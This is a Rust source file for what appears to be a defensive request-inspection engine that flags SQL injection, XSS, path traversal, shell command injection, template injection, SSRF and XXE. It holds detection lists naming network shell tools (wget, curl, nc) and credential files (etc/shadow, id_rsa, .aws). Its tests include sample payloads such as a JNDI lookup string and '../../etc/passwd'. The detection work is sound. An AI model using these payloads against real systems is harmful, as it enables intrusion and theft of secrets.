//! Signs of an attack: a value in, what it looks like to an interpreter behind the service out. Keeps nothing. Whether
//! a sign means anything is the engine's to say: many services take SQL, HTML or templates in good faith.

use libinjectionrs::{detect_sqli, detect_xss};
use model::{Charset, Sign, Signs};

/// Bytes of a value that are looked at.
pub(crate) const LOOK_BYTES_MAX: usize = 512;
/// A shorter value can do no harm.
const LOOK_BYTES_MIN: usize = 3;

/// Commands that follow a separator when a value is meant for a shell.
const COMMANDS: [&[u8]; 16] = [
    b"cat",
    b"ls",
    b"id",
    b"whoami",
    b"wget",
    b"curl",
    b"bash",
    b"sh",
    b"nc",
    b"ping",
    b"sleep",
    b"uname",
    b"python",
    b"perl",
    b"powershell",
    b"nslookup",
];
/// Places of this host or its cloud.
const INSIDE: [&[u8]; 6] =
    [b"169.254.169.254", b"metadata.google", b"://127.", b"://localhost", b"://[::1]", b"://0.0.0.0"];
/// XML that reaches beyond its document.
const ENTITIES: [&[u8]; 3] = [b"<!entity", b"<!doctype", b"<?xml-stylesheet"];

/// Files of a host that no folder of a service holds.
const HOST_FILES: [&[u8]; 14] = [
    b"etc/passwd",
    b"etc/shadow",
    b"etc/hosts",
    b"proc/self",
    b"win.ini",
    b"boot.ini",
    b"/.ssh/",
    b"id_rsa",
    b"/.git/",
    b"/.env",
    b".htaccess",
    b".htpasswd",
    b"/.aws/",
    b"bash_history",
];
/// Calls and places of a browser's script that stand in no text for people.
const SCRIPTS: [&[u8]; 12] = [
    b"document.cookie",
    b"document.write",
    b"document.domain",
    b"window.location",
    b"eval(",
    b"alert(",
    b"confirm(1",
    b"prompt(1",
    b"fromcharcode",
    b"settimeout(",
    b"setinterval(",
    b"globaleval",
];

/// Bytes without which a value has none of some signs.
struct Hints;

impl Hints {
    /// What ends or opens a text, a comment or an expression of SQL.
    const SQL: u8 = 1;
    /// What separates commands.
    const SEPARATOR: u8 = 2;
    const DOT: u8 = 4;
    const PERCENT: u8 = 8;
    const COLON: u8 = 16;
    /// `<`
    const TAG: u8 = 32;
    /// What can end a text or a tag of HTML.
    const HTML: u8 = 64;
    /// `{`
    const BRACE: u8 = 128;

    const OF: [u8; 256] = {
        let mut of = [0; 256];
        let classes: [(&[u8], u8); 8] = [
            (b"'\"`;#=(*", Self::SQL),
            (b";|&`(\n", Self::SEPARATOR),
            (b".", Self::DOT),
            (b"%", Self::PERCENT),
            (b":", Self::COLON),
            (b"<", Self::TAG),
            (b"<>\"'`", Self::HTML),
            (b"{", Self::BRACE),
        ];
        let mut class = 0;
        while class < classes.len() {
            let (bytes, bit) = classes[class];
            let mut at = 0;
            while at < bytes.len() {
                of[bytes[at] as usize] |= bit;
                at += 1;
            }
            class += 1;
        }
        of
    };

    fn of(value: &[u8]) -> u8 {
        value.iter().fold(0, |set, byte| set | Self::OF[usize::from(*byte)])
    }
}

/// What a value looks like, given the classes of its characters.
pub(crate) fn of_value(value: &[u8], charset: Charset) -> Signs {
    let mut signs = Signs::default();
    if value.len() < LOOK_BYTES_MIN {
        return signs;
    }
    let value = value.get(..LOOK_BYTES_MAX).unwrap_or(value);
    // Without a mark nothing of this can be written but SQL that needs no quote, and that needs spaces.
    if charset.0 & (Charset::MARK | Charset::SPACE) == 0 {
        return signs;
    }
    let hints = Hints::of(value);
    let may_be_sql = hints & Hints::SQL != 0 || charset.0 & Charset::SPACE != 0 && has_words_of_sql(value);
    if may_be_sql && detect_sqli(value).is_injection() {
        signs.insert(Sign::Sql);
    }
    if charset.0 & Charset::MARK != 0 && (hints & !Hints::SQL != 0 || value.starts_with(b"/")) {
        of_marks(value, hints, &mut signs);
    }
    signs
}

/// Signs that are not to be had without marks. Each is looked for only where its own are.
fn of_marks(value: &[u8], hints: u8, signs: &mut Signs) {
    let mut lower = [0_u8; LOOK_BYTES_MAX];
    let lower = lower.get_mut(..value.len()).unwrap_or_default();
    lower.copy_from_slice(value);
    lower.make_ascii_lowercase();
    let has_any = |wanted: u8| hints & wanted != 0;
    let mut note = |is: bool, sign: Sign| {
        if is {
            signs.insert(sign);
        }
    };
    note(
        has_any(Hints::DOT | Hints::PERCENT) && climbs(lower) || names_host_file(lower, hints),
        Sign::Traversal,
    );
    note(has_any(Hints::SEPARATOR) && commands(lower), Sign::Command);
    note(has_any(Hints::BRACE | Hints::TAG) && is_template(lower), Sign::Template);
    note(has_any(Hints::DOT | Hints::COLON) && is_inside(lower), Sign::Inside);
    note(has_any(Hints::TAG) && ENTITIES.iter().any(|start| has(lower, start)), Sign::Entity);
    let may_be_script = has_any(Hints::HTML) || has_any(Hints::COLON) && has(lower, b"javascript:");
    note(may_be_script && detect_xss(value).is_injection() || calls_script(lower, hints), Sign::Script);
}

/// What a parameter's name looks like.
pub(crate) fn of_name(name: &str) -> Signs {
    let bytes = name.as_bytes();
    if !bytes.contains(&b'$') {
        return Signs::default();
    }
    let mut dollars = bytes.iter().enumerate().filter(|(_, byte)| **byte == b'$').map(|(at, _)| at);
    // In brackets, or at the start of the last of the names that dots join.
    let is_operator = dollars.any(|at| {
        let (before, after) = bytes.split_at(at);
        before.ends_with(b"[") || !after.contains(&b'.') && before.last().is_none_or(|byte| *byte == b'.')
    });
    if is_operator { Sign::Operator.into() } else { Signs::default() }
}

/// What a path looks like, as sent.
pub(crate) fn of_path(path: &[u8]) -> Signs {
    let marks = path.iter().any(|byte| !byte.is_ascii_alphanumeric() && !b"/-_.~".contains(byte));
    if marks || path.windows(4).any(|four| four == b"/../") {
        // A path may name a table or hold a quote; only what leaves the folder or runs elsewhere counts.
        let mut signs = of_value(path, Charset::of(path));
        if path.contains(&b'%') {
            let mut plain = [0_u8; LOOK_BYTES_MAX];
            let plain = decoded(path, &mut plain);
            signs.merge(of_value(plain, Charset::of(plain)));
        }
        let kept = [Sign::Traversal, Sign::Command, Sign::Template, Sign::Script, Sign::Inside];
        let mut out = Signs::default();
        kept.into_iter().filter(|sign| signs.contains(*sign)).for_each(|sign| out.insert(sign));
        std::mem::swap(&mut signs, &mut out);
        return signs;
    }
    Signs::default()
}

/// The start of a path without percent-encoding, as much as fits into `out`.
fn decoded<'o>(path: &[u8], out: &'o mut [u8; LOOK_BYTES_MAX]) -> &'o [u8] {
    let (mut at, mut length) = (0, 0);
    while let (Some(byte), Some(slot)) = (path.get(at), out.get_mut(length)) {
        let digit = |place: usize| path.get(place).and_then(|byte| char::from(*byte).to_digit(16));
        let escaped = digit(at + 1).zip(digit(at + 2)).filter(|_| *byte == b'%');
        *slot = escaped.and_then(|(high, low)| u8::try_from(high << 4 | low).ok()).unwrap_or(*byte);
        at += if escaped.is_some() { 3 } else { 1 };
        length += 1;
    }
    out.get(..length).unwrap_or_default()
}

/// A file of the host: looked for only in what begins or goes on like a path out of a folder.
fn names_host_file(lower: &[u8], hints: u8) -> bool {
    let is_path =
        lower.starts_with(b"/") || hints & Hints::DOT != 0 && (has(lower, b"/.") || has(lower, b"../"));
    is_path && HOST_FILES.iter().any(|file| has(lower, file))
}

/// A call or a place of a script.
fn calls_script(lower: &[u8], hints: u8) -> bool {
    let (places, calls) = SCRIPTS.split_at(4);
    hints & Hints::DOT != 0
        && (has(lower, b"document.") || has(lower, b"window."))
        && places.iter().any(|place| has(lower, place))
        || lower.contains(&b'(') && calls.iter().any(|call| has(lower, call))
}

fn has(text: &[u8], part: &[u8]) -> bool {
    memchr::memmem::find(text, part).is_some()
}

/// Whether it names this host or its cloud.
fn is_inside(lower: &[u8]) -> bool {
    let (anywhere, in_urls) = INSIDE.split_at(2);
    anywhere.iter().any(|place| has(lower, place))
        || has(lower, b"://") && in_urls.iter().any(|place| has(lower, place))
}

/// Two steps up, or one in a spelling that hides it.
fn climbs(lower: &[u8]) -> bool {
    if !has(lower, b"..") && !lower.contains(&b'%') {
        return false;
    }
    let plain =
        memchr::memmem::find_iter(lower, b"../").count() + memchr::memmem::find_iter(lower, b"..\\").count();
    plain >= 2
        || [b"%2e%2e".as_slice(), b"..%2f", b"..%5c", b"%252e", b"..%c0%af", b"....//"]
            .iter()
            .any(|part| has(lower, part))
        || plain == 1
            && [b"etc/".as_slice(), b"proc/", b"windows", b"win.ini", b".ssh"]
                .iter()
                .any(|part| has(lower, part))
}

/// A shell command behind a separator.
fn commands(lower: &[u8]) -> bool {
    let starts =
        lower.iter().enumerate().filter(|(_, byte)| matches!(byte, b';' | b'|' | b'&' | b'`' | b'(' | b'\n'));
    starts.into_iter().any(|(at, separator)| {
        let is_substitution = *separator != b'(' || at > 0 && lower.get(at - 1) == Some(&b'$');
        let rest = lower.get(at + 1..).unwrap_or_default().trim_ascii_start();
        let rest = rest.strip_prefix(b"/bin/").or_else(|| rest.strip_prefix(b"/usr/bin/")).unwrap_or(rest);
        is_substitution
            && COMMANDS.iter().any(|command| {
                rest.strip_prefix(*command).is_some_and(|after| {
                    after.first().is_none_or(|next| {
                        matches!(next, b' ' | b'\t' | b')' | b'`' | b';' | b'|' | b'&' | b'$')
                    })
                })
            })
    })
}

/// An expression between the marks of a template engine.
fn is_template(lower: &[u8]) -> bool {
    let between = |open: &[u8], close: &[u8]| {
        memchr::memmem::find(lower, open)
            .and_then(|at| lower.get(at + open.len()..))
            .is_some_and(|rest| memchr::memmem::find(rest, close).is_some_and(|length| length > 0))
    };
    between(b"${", b"}") || between(b"{{", b"}}") || between(b"<%", b"%>") || between(b"#{", b"}")
}

/// Words that join a statement to another or end it early, each beside a space; or a comment.
fn has_words_of_sql(value: &[u8]) -> bool {
    let begins = |text: &[u8], word: &[u8]| {
        text.get(..word.len()).is_some_and(|start| start.eq_ignore_ascii_case(word))
    };
    let is_word = |at: usize| {
        let (before, after) = value.split_at(at);
        let ends = |word: &[u8]| {
            before
                .len()
                .checked_sub(word.len())
                .and_then(|from| before.get(from..))
                .is_some_and(|end| end.eq_ignore_ascii_case(word))
        };
        let behind = match after.get(1) {
            Some(b'o' | b'O') => begins(after, b" or ") || begins(after, b" order by "),
            Some(b'a' | b'A') => begins(after, b" and "),
            Some(b'h' | b'H') => begins(after, b" having "),
            _ => false,
        };
        behind
            || match before.last() {
                Some(b'n' | b'N') => ends(b"union"),
                Some(b't' | b'T') => ends(b"select"),
                Some(b'p' | b'P') => ends(b"sleep"),
                _ => false,
            }
    };
    let mut spaces = value.iter().enumerate().filter(|(_, byte)| **byte == b' ').map(|(at, _)| at);
    spaces.any(is_word) || has(value, b"--")
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn names(text: &str) -> Vec<&'static str> {
        let signs = of_value(text.as_bytes(), Charset::of(text.as_bytes()));
        signs.iter().map(Sign::name).collect()
    }

    #[test]
    fn attacks_have_their_signs() {
        for (text, expected) in [
            ("1' OR '1'='1", "sql"),
            ("1 UNION SELECT password FROM users--", "sql"),
            ("<script>alert(1)</script>", "script"),
            ("\"><img src=x onerror=alert(1)>", "script"),
            ("../../../../etc/passwd", "traversal"),
            ("..%2f..%2fetc%2fpasswd", "traversal"),
            ("; cat /etc/hosts", "command"),
            ("$(whoami)", "command"),
            ("/etc/passwd", "traversal"),
            ("x=document.cookie;", "script"),
            ("setTimeout(f, 1)", "script"),
            ("${jndi:ldap://x.example/a}", "template"),
            ("{{7*7}}", "template"),
            ("http://169.254.169.254/latest/meta-data/", "inside"),
            ("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///a\">]>", "entity"),
        ] {
            assert!(names(text).contains(&expected), "{text}: {:?}", names(text));
        }
        assert!(of_name("user[$ne]").contains(Sign::Operator));
        assert!(of_name("filter.$gt").contains(Sign::Operator));
    }

    #[test]
    fn what_people_write_has_none() {
        for text in [
            "O'Brien",
            "Grand St. 12, 3rd floor",
            "2024-05-01T10:00:00+02:00",
            "amal@example.org",
            "fish & chips",
            "C# or C++?",
            "50% off; really",
            "https://shop.example/a?b=c&d=e",
            "a/b/../c",
            "/home/amal/.config (my folder)",
            "Alert (red) at the window. Document attached",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
            "price > 10 and price < 20",
        ] {
            assert_eq!(names(text), Vec::<&str>::new(), "{text}");
        }
        assert!(of_name("price.$ref.x").is_empty() && of_name("cost_$").is_empty());
    }

    #[test]
    fn paths_are_looked_at_for_what_leaves_them() {
        assert!(of_path(b"/static/../../etc/passwd").contains(Sign::Traversal));
        assert!(of_path(b"/a/%2e%2e/%2e%2e/b").contains(Sign::Traversal));
        assert!(of_path(b"/a/%3Csvg/onload=alert(1)>").contains(Sign::Script));
        assert!(of_path(b"/users/O'Brien/orders").is_empty());
        assert!(of_path(b"/\xd8\xa7/%D9%85%DA%AF%7C13").is_empty());
        assert!(of_path(b"/v1/orders/17").is_empty());
    }

    /// What is said to look for of every value, without any shortcut.
    fn slowly(value: &[u8], charset: Charset) -> Signs {
        let value = value.get(..LOOK_BYTES_MAX).unwrap_or(value);
        let mut signs = Signs::default();
        if value.len() < LOOK_BYTES_MIN || charset.0 & (Charset::MARK | Charset::SPACE) == 0 {
            return signs;
        }
        let lower = value.to_ascii_lowercase();
        let words: [&[u8]; 8] =
            [b"--", b" or ", b" and ", b"union ", b"select ", b" order by ", b" having ", b"sleep "];
        let has_any = |bytes: &[u8]| lower.iter().any(|byte| bytes.contains(byte));
        let has_words = words.iter().any(|word| has(&lower, word));
        let may_be_sql = has_any(b"'\"`;#=(*") || charset.0 & Charset::SPACE != 0 && has_words;
        let is_marked = charset.0 & Charset::MARK != 0;
        let may_be_script = has_any(b"<>\"'`") || has(&lower, b"javascript:");
        for (is, sign) in [
            (may_be_sql && detect_sqli(value).is_injection(), Sign::Sql),
            (is_marked && climbs(&lower), Sign::Traversal),
            (is_marked && commands(&lower), Sign::Command),
            (is_marked && is_template(&lower), Sign::Template),
            (is_marked && INSIDE.iter().any(|place| has(&lower, place)), Sign::Inside),
            (is_marked && ENTITIES.iter().any(|start| has(&lower, start)), Sign::Entity),
            (is_marked && may_be_script && detect_xss(value).is_injection(), Sign::Script),
        ] {
            if is {
                signs.insert(sign);
            }
        }
        signs
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(4_000))]

        #[test]
        fn shortcuts_miss_no_sign(
            parts in proptest::collection::vec(proptest::sample::select(PARTS.to_vec()), 0..12),
            any in ".{0,8}",
        ) {
            let text = parts.concat() + &any;
            let charset = Charset::of(text.as_bytes());
            prop_assert_eq!(of_value(text.as_bytes(), charset), slowly(text.as_bytes(), charset));
        }
    }

    const PARTS: [&str; 48] = [
        " ",
        "'",
        "\"",
        "`",
        ";",
        "#",
        "=",
        "(",
        ")",
        "*",
        "|",
        "&",
        "\n",
        ".",
        "..",
        "../",
        "..\\",
        "%2e",
        "%",
        "1",
        "://",
        "localhost",
        "127.",
        "169.254.169.254",
        "metadata.google",
        "javascript:",
        "<!entity",
        "<!DOCTYPE",
        "<",
        ">",
        "${",
        "{{",
        "}",
        "}}",
        "<%",
        "%>",
        "#{",
        "--",
        " OR ",
        "or",
        "and ",
        "Union",
        "select",
        "sleep",
        " order by ",
        "having",
        "cat ",
        "<script>",
    ];

    #[test]
    fn long_values_cost_no_more_than_their_start() {
        let text = format!("1 union select a from b -- {}", "x".repeat(10_000));
        assert!(of_value(text.as_bytes(), Charset::of(text.as_bytes())).contains(Sign::Sql));
    }
}
